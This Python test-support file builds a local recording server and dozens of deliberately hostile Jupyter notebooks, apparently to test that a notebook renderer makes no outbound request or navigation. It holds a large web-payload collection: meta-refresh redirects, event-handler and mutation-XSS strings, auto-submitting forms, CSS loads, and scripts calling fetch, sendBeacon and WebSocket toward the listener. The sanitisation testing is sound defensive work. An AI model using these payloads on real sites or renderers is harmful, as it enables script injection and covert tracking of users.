# ruff: noqa: E501, UP030 - markup is easier to judge in one line
"""Notebooks that try to load something or to navigate the browser, and a server that records it."""

import base64
import contextlib
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.support.notebooks import Cell, Notebook, code, markdown, notebook, raw


@dataclass
class Listener:
    """A server that records each connection and its first line."""

    port: int
    connections: int = 0
    lines: list[str] = field(default_factory=list)
    changed: threading.Condition = field(default_factory=threading.Condition)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def wait_for(self, part: str) -> None:
        """Wait for a line that contains `part`."""
        with self.changed:
            assert self.changed.wait_for(lambda: any(part in line for line in self.lines), 30), (part, self.lines)


@contextlib.contextmanager
def listener() -> Iterator[Listener]:
    """Listen for the length of the block."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        found = Listener(server.getsockname()[1])

        def answer(connection: socket.socket) -> None:
            with connection, contextlib.suppress(OSError):
                line = connection.recv(4096).split(b"\r\n")[0].decode("latin-1")
                if line:
                    with found.changed:
                        found.lines.append(line)
                        found.changed.notify_all()
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi")

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    found.connections += 1
                    threading.Thread(target=answer, args=(connection,), daemon=True).start()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield found
        server.shutdown(socket.SHUT_RDWR)
        thread.join(10)


def shows(data: dict[str, Any], **metadata: Any) -> Cell:
    """A code cell with an output."""
    return code("1", outputs=[{"output_type": "display_data", "data": data, "metadata": metadata}])


def html_output(text: str) -> Cell:
    return shows({"text/html": text})


def script(text: str) -> Cell:
    return shows({"application/javascript": text})


def titled(text: str) -> Notebook:
    language = {"name": text, "pygments_lexer": text}
    return notebook(markdown(f"# {text}"), code("1"), title=text, authors=[{"name": text}], language_info=language)


def attached(source: str, attachments: dict[str, Any]) -> Notebook:
    return notebook({**markdown(source), "attachments": attachments})


def raised(text: str) -> Notebook:
    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, f"\x1b[31m{text}\x1b[0m"]}
    return notebook(code(f"# {text}", outputs=[error]))


def streamed(text: str) -> Notebook:
    outputs = [{"output_type": "stream", "name": name, "text": f"{text}\x1b[1m{text}"} for name in ("stdout", "stderr")]
    return notebook(code("1", outputs=outputs))


def named(text: str) -> Notebook:
    """A notebook whose cells' ids, tags and formats are the text."""
    found = notebook(markdown("x"), code("1", tags=[text, f'"> {text}']), raw("x"))
    for cell in found["cells"]:
        cell["id"] = f'x">{text}'
        cell["metadata"] |= {"format": text, "raw_mimetype": "text/html", "name": text}
    return found


def hostile_notebooks(url: str) -> dict[str, Notebook]:
    """Return notebooks by name. None of them may connect to `url` when its page is opened."""

    def to(name: str) -> str:
        return f"{url}/{name}"

    def away(name: str) -> str:
        return f'<meta http-equiv=refresh content="0;url={to(name)}">'

    def b64(text: str) -> str:
        return base64.b64encode(text.encode()).decode()

    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    rules = (
        "@import url({0}); @import '{0}'; @font-face{{font-family:x;src:url({0})}} *{{background:url({0});cursor:url({0}),auto;"
        "list-style:url('{0}');font-family:x;content:u\\72l({0});border-image:image-set('{0}' 1x);mask:url({0}#m)}}"
    )
    loading = (
        "<link rel=stylesheet href={0}><link rel=preload as=image href={0}><link rel=prefetch href={0}><link rel=preconnect href={0}>"
        "<link rel=dns-prefetch href={0}><link rel=icon href={0}><link rel=modulepreload href={0}><link rel=manifest href={0}>"
        '<img src={0}><img srcset="{0} 2x"><picture><source srcset={0}><img></picture><video src={0} poster={0} autoplay></video>'
        "<audio src={0} autoplay></audio><video><source src={0}><track src={0}></video><input type=image src={0}><body background={0}>"
        "<table background={0}><tr><td background={0}>x</table><object data={0}></object><embed src={0}><iframe src={0}></iframe>"
        "<frameset><frame src={0}></frameset><applet codebase={0}></applet><bgsound src={0}><img lowsrc={0} dynsrc={0}>"
    )
    svgs = (
        f"{svg}<image href='{{0}}'/><image xlink:href='{{0}}'/><use href='{{0}}#a'/><use xlink:href='{{0}}#a'/><feImage href='{{0}}'/>"
        "<style>@import url({0}); *{{fill:url({0}#a);background:url({0})}}</style><rect fill='url({0}#a)' filter='url({0}#f)' width=9 height=9 />"
        "<script href='{0}'/><script>location='{0}'</script><a id=k><animate attributeName=href values='{0}' dur=1s begin=0s /></a>"
        "<foreignObject><img src='{0}'/><meta http-equiv=refresh content='0;url={0}'/></foreignObject></svg>"
    )
    scripts = (
        "for (const run of [() => fetch('{0}?fetch'), () => navigator.sendBeacon('{0}?beacon'), () => new Image().src = '{0}?image',"
        "() => new WebSocket('{0}?socket'.replace('http', 'ws')), () => new EventSource('{0}?events'), () => import('{0}?module'),"
        "() => new Worker(URL.createObjectURL(new Blob([\"fetch('{0}?worker')\"]))), () => open('{0}?open'), () => top.location = '{0}?top',"
        "() => parent.location.href = '{0}?parent', () => history.back(), () => new FontFace('x', 'url({0}?font)').load(),"
        "() => new RTCPeerConnection({{iceServers: [{{urls: '{0}'.replace('http://', 'turn:').replace(/\\/[^/]*$/, '?transport=tcp'),"
        " username: 'u', credential: 'p'}}]}}).createOffer({{offerToReceiveAudio: true}}),"
        "() => document.body.insertAdjacentHTML('beforeend', `" + loading.replace("{0}", "{0}?load") + "`),"
        "() => {{ const a = document.createElement('a'); a.href = '{0}?ping'; a.ping = '{0}?ping'; a.target = '_blank'; document.body.append(a); a.click() }},"
        "]) try {{ const p = run(); if (p?.catch) p.catch(() => 0) }} catch (error) {{ }}"
    )
    autosubmit = "<form id=f action={0} method=post><input autofocus onfocus='this.form.submit()'></form><script>f.submit()</script>"
    handlers = (
        "<img src=x onerror=\"location='{0}'\"><svg onload=\"location='{0}'\"><body onload=\"location='{0}'\"><details open ontoggle=\"location='{0}'\">"
        "<input autofocus onfocus=\"location='{0}'\"><marquee onstart=\"location='{0}'\"><video><source onerror=\"location='{0}'\"></video>"
        "<style onload=\"location='{0}'\"></style><div style='animation:x 1ms' onanimationstart=\"location='{0}'\"></div><style>@keyframes x{{}}</style>"
    )
    mutations = (
        '<svg></p><style><a id="</style>{0}"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;{0}">',
        "<form><math><mtext></form><form><mglyph><style></math>{0}",
        '<noscript><p title="</noscript>{0}">',
        '<math><annotation-xml encoding="text/html"><style><img title="</style>{0}"></annotation-xml></math>',
        '<svg><desc><template><style><a title="</style></template></desc></svg>{0}">',
        "<select><template><style></select>{0}</template>",
        '<textarea><p title="</textarea>{0}"><xmp><p title="</xmp>{0}"><title><p title="</title>{0}">',
        "<!--><!-->{0}--><![CDATA[><!]]>{0}<?x {0}?>{0}</plaintext>",
        "<template shadowrootmode=open>{0}</template><svg><style>&lt;/style&gt;{0}</style></svg>",
        "</pre></code></div></div></div></main></body></html>{0}",
    )

    cells: dict[str, list[Cell]] = {
        "markdown-refresh": [markdown(f"hello\n\n{away('markdown-refresh')}\n"), markdown(f"- a\n\n  {away('in-list')}")],
        "markdown-base": [markdown(f"<base href='{to('markdown-base')}/'>\n\n![x](picture.png)\n\n<img src=picture.png>")],
        "markdown-images": [markdown('![x]({0} "t")\n\n[![b]({0})]({0})\n\n![r][r]\n\n[r]: {0}'.format(to("markdown-images")))],
        "markdown-loads": [markdown(loading.format(to("markdown-loads")))],
        "markdown-handlers": [markdown(handlers.format(to("markdown-handlers")))],
        "markdown-form": [markdown(autosubmit.format(to("markdown-form")))],
        "markdown-math": [markdown(f"$\\require{{x}} {away('markdown-math')}$ $$ {away('math')} $$ `{away('code')}`")],
        "markdown-links": [markdown(f"[x](javascript:location='{to('x')}') <a href='data:text/html,{away('d')}' autofocus>x</a>")],
        "raw-refresh": [raw(away("raw-refresh")), raw(loading.format(to("raw-loads")))],
        "raw-html": [{**raw(away("raw-html")), "metadata": {"raw_mimetype": "text/html", "format": "text/html"}}],
        "html-refresh": [html_output(away("html-refresh")), html_output(f"<META HTTP-EQUIV=Refresh CONTENT=1;{to('1s')}>")],
        "html-loads": [html_output(loading.format(to("html-loads")))],
        "html-handlers": [html_output(handlers.format(to("html-handlers")))],
        "html-form": [html_output(autosubmit.format(to("html-form")))],
        "html-style": [html_output(f"<style>{rules.format(to('html-style'))}</style><div style=\"{rules.format(to('a'))}\">x</div>")],
        "html-script": [html_output(f"<script>{scripts.format(to('html-script'))}</script>")],
        "html-script-src": [html_output("<script src={0}></script><script type=module>import '{0}'</script>".format(to("src")))],
        "html-location": [html_output(f"<script>location = '{to('html-location')}'</script>")],
        "html-top": [html_output(f"<script>top.location = '{to('html-top')}'</script>")],
        "html-written": [html_output(f"<script>document.open(); document.write('{away('written')}'); document.close()</script>")],
        "html-nested": [html_output(f"<iframe srcdoc='{away('nested')}'></iframe><iframe src=\"javascript:top.location='{to('j')}'\"></iframe>")],
        "html-speculation": [
            html_output('<script type=speculationrules>{{"prerender":[{{"source":"list","urls":["{0}"]}}]}}</script>'.format(to("rules")))
        ],
        "html-import-map": [html_output('<script type=importmap>{{"imports":{{"x":"{0}"}}}}</script><script type=module>import "x"</script>'.format(to("map")))],
        "html-svg": [html_output(svgs.format(to("html-svg")))],
        "svg": [shows({"image/svg+xml": svgs.format(to("svg"))})],
        "svg-breakout": [shows({"image/svg+xml": f"</div>{away('svg-breakout')}"})],
        "javascript-breakout": [script(f"1</script>{away('javascript-breakout')}")],
        "javascript": [script(scripts.format(to("javascript")))],
        "javascript-refresh": [script(f"document.head.innerHTML += `{away('javascript-refresh')}`")],
        "javascript-page": [script(f"parent.postMessage(['{away('x')}', 1e99, NaN, {{}}], '*'); parent.document.body.innerHTML = `{away('y')}`")],
        "mermaid": [shows({"text/vnd.mermaid": f"</pre>{away('mermaid')}"})],
        "latex": [shows({"text/latex": f"${away('latex')}$"})],
        "json": [shows({"application/json": {away("json"): away("json")}, "text/plain": away("plain")})],
        "plain": [shows({"text/plain": away("plain")})],
        "markdown-output": [shows({"text/markdown": away("markdown-output") + loading.format(to("o"))})],
        "pdf": [shows({"application/pdf": b64(away("pdf")), "text/plain": away("pdf")})],
        "png": [shows({"image/png": f'AAAA"><!-- -->{away("png")}'}, **{"image/png": {"width": f'1">{away("width")}'}})],
        "png-file": [shows({"image/png": "AAAA"}, filenames={"image/png": to("png-file")})],
        "jpeg": [shows({"image/jpeg": f'AAAA" src="{to("jpeg")}" onerror="location=\'{to("jpeg")}\''})],
        "gif": [shows({"image/gif": f'"><p>{away("gif")}', "image/bmp": away("bmp"), "text/plain": "x"})],
        "widget": [shows({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{away('widget')}"}, "text/plain": away("w")})],
        "unknown-mime": [shows({"application/x.unknown+json": away("u"), f"text/html; {away('mime')}": away("u"), "text/plain": "x"})],
        "mixed": [shows({"text/html": away("mixed"), "application/javascript": scripts.format(to("mixed")), "text/markdown": away("m")})],
    }  # fmt: skip
    cells |= {
        f"mutation-{i}": [html_output(m.format(away(f"mutation-{i}"))), markdown(m.format(away("md")))]
        for i, m in enumerate(mutations)
    }
    found = {f"{name}.ipynb": notebook(*some) for name, some in cells.items()}
    found |= {
        "title.ipynb": titled(f"</title>{away('title')}"),
        "names.ipynb": named(away("names")),
        "error.ipynb": raised(f"</pre>{away('error')}"),
        "stream.ipynb": streamed(f"</pre>{away('stream')}"),
        "attachment.ipynb": attached(
            "![x](attachment:a.png) ![y](attachment:b.html) ![z](attachment:c)",
            {
                "a.png": {"image/png": f'AA"><i>{away("attachment")}'},
                "b.html": {"text/html": b64(away("attachment"))},
                "c": {f'image/png;x"><i>{away("attachment")}': "AAAA"},
            },
        ),
        f"{away('file').replace('/', chr(0x2215))}.ipynb": notebook("1"),
        f"</title>{away('folder')}.ipynb": notebook("1"),
    }
    state = {
        "application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {f"</script>{away('state')}": {}}}
    }
    found["widget-state.ipynb"] = notebook("1", widgets=state)
    return found
